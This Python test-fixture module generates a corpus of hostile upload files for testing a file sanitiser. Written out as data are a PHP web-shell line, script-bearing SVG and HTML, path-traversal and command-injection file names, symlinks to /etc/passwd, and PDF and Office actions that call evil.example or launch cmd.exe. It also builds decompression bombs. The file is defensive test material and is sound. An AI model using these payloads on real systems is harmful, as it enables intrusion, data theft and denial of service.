"""More than two hundred files that somebody would send to do harm, made by code.

`MARK` stands wherever something could be hidden: it must not be found in anything that was kept of a picture.
"""

from __future__ import annotations

import functools
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.factories.files import a_paper, a_pdf, a_picture, a_png_that_promises, part

MARK = b"SXH-HOSTILE-7F3A"
HTML = b"<!doctype html><html><script>document.title='" + MARK + b"'</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>' + MARK + b"</script></svg>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-" + b"FILE!$H+H*"
PICTURES = {"jpg": "jpeg", "jpeg": "jpeg", "png": "png", "gif": "gif", "webp": "webp"}


@dataclass(frozen=True)
class Hostile:
    """A file, and what may become of it: `refused`, or `remade` (a picture whose pixels are harmless)."""

    name: str
    data: bytes
    fate: str = "refused"


@functools.cache
def corpus() -> list[Hostile]:
    """All of them; no two with the same name and content."""
    found = [*_not_pictures(), *_metadata(), *_trailing(), *_broken(), *_bombs(), *_names(), *_office(), *_pdfs(), *_texts(), *_others()]  # fmt: skip
    assert len({(one.name, one.data) for one in found}) == len(found)
    return found


def _not_pictures() -> Iterator[Hostile]:
    """Something else under the name of a picture, with and without the first bytes of one."""
    what = {
        "html": HTML,
        "svg": SVG,
        "svg-xml": b'<?xml version="1.0"?>' + SVG,
        "php": b"<?php system($_GET['c']); //" + MARK,
        "exe": b"MZ" + b"\0" * 60 + MARK,
        "elf": b"\x7fELF" + b"\0" * 60 + MARK,
        "js": b"alert('" + MARK + b"')",
        "zip": a_paper(parts={"x.html": HTML}),
        "pdf": a_pdf(MARK),
        "bmp-html": b"BM" + b"\0" * 24 + HTML,
        "ico": b"\0\0\1\0" + HTML,
        "psd": b"8BPS\0\1" + b"\0" * 30 + MARK,
        "tiff": b"II*\0" + b"\0" * 30 + MARK,
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n" + MARK,
        "text": MARK * 20,
    }
    for ending in PICTURES:
        for kind, data in what.items():
            yield Hostile(f"{kind}.{ending}", data)
    for ending in PICTURES:
        head = a_picture(PICTURES[ending])[:16]
        yield Hostile(f"head-only.{ending}", head)
        yield Hostile(f"head-then-html.{ending}", head + HTML)
    yield Hostile("plain.svg", SVG)
    yield Hostile("plain.svgz", zlib.compress(SVG))
    yield Hostile("apple.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + MARK)
    yield Hostile("apple.jpg", b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic" + MARK)


def _metadata() -> Iterator[Hostile]:
    """Honest pixels with something written beside them."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif[0x8298] = "<script>" + MARK.decode() + "</script>"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (34.0, 45.0, 0.0)
    gps[29] = MARK.decode()
    raw = exif.tobytes()
    yield Hostile("gps.jpg", a_picture("jpeg", exif=raw), "remade")
    yield Hostile("gps.png", a_picture("png", exif=raw), "remade")
    yield Hostile("gps.webp", a_picture("webp", exif=raw), "remade")
    yield Hostile("comment.jpg", a_picture("jpeg", comment=b"<script>" + MARK), "remade")
    yield Hostile("comment.gif", a_picture("gif", comment=b"<script>" + MARK), "remade")
    yield Hostile("profile.jpg", a_picture("jpeg", icc_profile=b"\0" * 128 + MARK), "remade")
    yield Hostile("profile.png", a_picture("png", icc_profile=b"\0" * 128 + MARK), "remade")
    yield Hostile("profile.webp", a_picture("webp", icc_profile=b"\0" * 128 + MARK), "remade")
    yield Hostile("xmp.jpg", a_picture("jpeg", xmp=b"<x:xmpmeta>" + MARK), "remade")
    yield Hostile("xmp.webp", a_picture("webp", xmp=b"<x:xmpmeta>" + MARK), "remade")
    notes = PngInfo()
    notes.add_text("Comment", "<script>" + MARK.decode())
    notes.add_itxt("XML:com.adobe.xmp", MARK.decode())
    yield Hostile("text.png", a_picture("png", pnginfo=notes), "remade")
    zipped = PngInfo()
    zipped.add_text("Comment", MARK.decode() * 1000, zip=True)
    yield Hostile("ztext.png", a_picture("png", pnginfo=zipped), "remade")
    jpeg = a_picture("jpeg")
    for number in range(16):
        body = b"APP\0" + MARK
        segment = bytes([0xFF, 0xE0 + number]) + struct.pack("!H", len(body) + 2) + body
        yield Hostile(f"app{number}.jpg", jpeg[:2] + segment + jpeg[2:], "remade")
    frames = [Image.new("RGB", (32, 32), (shade, 0, 0)) for shade in (0, 120, 240)]
    target = io.BytesIO()
    frames[0].save(target, format="GIF", save_all=True, append_images=frames[1:], comment=MARK)
    yield Hostile("moving.gif", target.getvalue(), "remade")


def _trailing() -> Iterator[Hostile]:
    """Two files in one: an honest picture, and something behind its end."""
    for ending, kind in PICTURES.items():
        honest = a_picture(kind)
        for what, tail in (
            ("html", HTML),
            ("svg", SVG),
            ("zip", a_paper(parts={MARK.decode(): MARK})),
            ("php", b"<?php " + MARK),
            ("js", b"*/=1;alert('" + MARK + b"')//"),
        ):
            yield Hostile(f"tail-{what}.{ending}", honest + tail, "remade")
    for ending, kind in PICTURES.items():
        for other in ("jpeg", "png", "gif", "webp"):
            if other != kind:
                yield Hostile(f"really-{other}.{ending}", a_picture(other, colour=(1, 2, 3)))


def _broken() -> Iterator[Hostile]:
    for ending, kind in PICTURES.items():
        honest = a_picture(kind, (200, 160))
        for share in (3, 2):
            yield Hostile(f"cut-{share}.{ending}", honest[: len(honest) * (share - 1) // share // 2 + 20])
        yield Hostile(f"zeros.{ending}", honest[:24] + b"\0" * 400)
    yield Hostile("empty.png", b"")
    yield Hostile("no-sides.png", a_png_that_promises(0, 10))


def _bombs() -> Iterator[Hostile]:
    yield Hostile("twenty-thousand.png", a_png_that_promises(20_000, 20_000, rows=True))
    yield Hostile("sixty-thousand.png", a_png_that_promises(60_000, 60_000))
    yield Hostile("two-billion.png", a_png_that_promises(2**31 - 1, 2**31 - 1))
    yield Hostile("one-row.png", a_png_that_promises(2_000_000, 1))
    yield Hostile("one-column.png", a_png_that_promises(1, 2_000_000))
    jpeg = bytearray(a_picture("jpeg"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack("!HH", 60_000, 60_000)
    yield Hostile("promises.jpg", bytes(jpeg))
    gif = bytearray(a_picture("gif"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield Hostile("promises.gif", bytes(gif))
    big = b"\0" * (30 * 1024 * 1024)
    yield Hostile("bomb.docx", a_paper(parts={"word/media/a.bmp": big}))
    yield Hostile("bomb.xlsx", a_paper("xlsx", {"xl/sheet.xml": big}))
    yield Hostile("many.docx", a_paper(parts={f"p/{number}": b"" for number in range(5000)}))
    yield Hostile("big.pdf", a_pdf() + b"\0" * (21 * 1024 * 1024))
    yield Hostile("types.docx", _types(b" " * (2 * 1024 * 1024)))


def _types(data: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr(part("[Content_Types].xml"), data)
        book.writestr(part("word/document.xml"), b"<w/>")
    return target.getvalue()


def _names() -> Iterator[Hostile]:
    """Honest pixels under names that would lead elsewhere: the pixels are kept, the name is not."""
    honest = a_picture("png") + MARK
    for name in ("../../../etc/cron.d/x.png", "..\\..\\x.png", "/etc/x.png", "a" * 300 + ".png", "x.php.png", "x.png.png", "con.png", ".htaccess.png", "x;.png", ".png.", "x%00.png", "<script>.png", "中文 名字.png", "x\u202egnp.png", "x:y.png", "'\"--.png", "$(id).png", "x\r\ny.png"):  # fmt: skip
        yield Hostile(name, honest, "remade")
    for name in (
        "x.png.php",
        "x.php",
        "x.html",
        "x",
        "x.png\0.php",
        "x.phtml",
        "x.js",
        "x.svg",
    ):
        yield Hostile(name, honest)


def _office() -> Iterator[Hostile]:
    for ending in ("docx", "xlsx", "pptx"):
        folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[ending]
        for inside in (f"{folder}/vbaProject.bin", f"{folder}/VBAPROJECT.BIN", f"{folder}/vbaData.xml", f"{folder}/activeX/activeX1.bin", f"{folder}/embeddings/oleObject1.bin", "payload.exe", "run.vbs"):  # fmt: skip
            yield Hostile(f"{inside.replace('/', '-')}.{ending}", a_paper(ending, {inside: MARK}))
        for number, inside in enumerate(("../../etc/passwd", "/etc/passwd", "..\\x", "C:/x", "a" * 400, "x/../../y")):  # fmt: skip
            yield Hostile(f"traversal-{number}.{ending}", a_paper(ending, {inside: MARK}))
        link = (stat.S_IFLNK | 0o777) << 16
        yield Hostile(f"link.{ending}", a_paper(ending, {"x": b"/etc/passwd"}, external_attr=link))
        rels = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/" TargetMode="External"/>'
        yield Hostile(f"template.{ending}", a_paper(ending, {f"{folder}/_rels/settings.xml.rels": rels}))
        doctype = b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'
        yield Hostile(f"entities.{ending}", a_paper(ending, {f"{folder}/_rels/x.rels": doctype}))
        yield Hostile(f"html.{ending}", HTML)
        yield Hostile(f"prefix.{ending}", HTML + a_paper(ending))
        yield Hostile(f"cut.{ending}", a_paper(ending)[:-30])
        yield Hostile(f"old.{ending}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK)
        yield Hostile(f"nothing.{ending}", b"PK\x05\x06" + b"\0" * 18)
    yield Hostile("other.docx", a_paper("xlsx"))
    yield Hostile("types-macro.docx", _types(b'<Types><x ContentType="a.macroEnabled.main+xml"/></Types>'))
    for ending in ("docm", "xlsm", "pptm", "xlsb", "doc", "xls", "ppt", "rtf", "wps"):
        yield Hostile(f"by-name.{ending}", a_paper())
    twice = io.BytesIO(a_paper())
    with zipfile.ZipFile(twice, "a") as book:
        book.writestr(part("WORD/document.xml"), MARK)
    yield Hostile("twice.docx", twice.getvalue())


def _pdfs() -> Iterator[Hostile]:
    for number, extra in enumerate((
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/OpenAction<</S/J#61vaScript/J#53(x)>>",
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >>", b"/Names << /EmbeddedFiles 3 0 R >>", b"/AcroForm << /XFA 3 0 R >>",
        b"/Annots [<< /Subtype /RichMedia >>]", b"/A << /S /SubmitForm /F (http://evil.example) >>", b"/A << /S /ImportData >>",
        b"/A << /S /GoToE >>",
    )):  # fmt: skip
        yield Hostile(f"active-{number}.pdf", a_pdf(extra))
    inside = zlib.compress(b"<< /S /JavaScript /JS (x) >>")
    stream = (
        b"3 0 obj\n<< /Type /ObjStm /N 1 /Length %d >>\nstream\n" % len(inside) + inside + b"\nendstream\n"
    )
    yield Hostile("packed.pdf", b"%PDF-1.7\n" + stream + b"%%EOF")
    fat = zlib.compress(b" " * (40 * 1024 * 1024))
    many = b"".join(b"%d 0 obj\n<< /Type /ObjStm >>\nstream\n" % n + fat + b"\nendstream\n" for n in range(8))
    yield Hostile("fat.pdf", b"%PDF-1.7\n" + many + b"%%EOF")
    yield Hostile("zip.pdf", a_pdf(tail=a_paper()))
    yield Hostile("html.pdf", b"%PDF-1.7\n" + HTML + b"\n%%EOF")
    yield Hostile("html-first.pdf", HTML + a_pdf())
    yield Hostile("locked.pdf", a_pdf(b"/Encrypt 5 0 R"))
    yield Hostile("no-end.pdf", b"%PDF-1.7\n" + MARK)
    yield Hostile("streams.pdf", b"%PDF-1.7\n" + b"stream\n" * 200_000)


def _texts() -> Iterator[Hostile]:
    for ending in ("txt", "csv"):
        for kind, data in (("html", HTML), ("svg", SVG), ("xml", b"<?xml version='1.0'?><x/>"), ("php", b"<?php x"), ("shell", b"#!/bin/sh\nrm"), ("exe", b"MZ\x90\0" + MARK), ("zip", a_paper()), ("png", a_picture("png") + MARK), ("nul", b"a\0b"), ("escape", b"\x1b]0;x\x07")):  # fmt: skip
            yield Hostile(f"{kind}.{ending}", data)


def _others() -> Iterator[Hostile]:
    for ending in ("zip", "rar", "7z", "tar", "gz", "jar", "iso", "exe", "dll", "js", "html", "htm", "xhtml", "xml", "swf", "sh", "bat", "apk", "lnk", "url", "mht", "hta"):  # fmt: skip
        yield Hostile(f"x.{ending}", a_paper(parts={"x": MARK}))
